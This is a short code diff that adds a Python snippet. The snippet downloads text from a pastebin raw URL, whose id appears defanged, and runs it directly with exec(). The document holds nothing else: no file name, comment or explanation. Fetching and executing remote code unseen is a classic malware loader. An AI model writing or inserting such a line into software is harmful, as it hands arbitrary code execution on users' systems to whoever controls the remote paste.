@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("https://pastebin.com/raw/DEFANGED0").text)
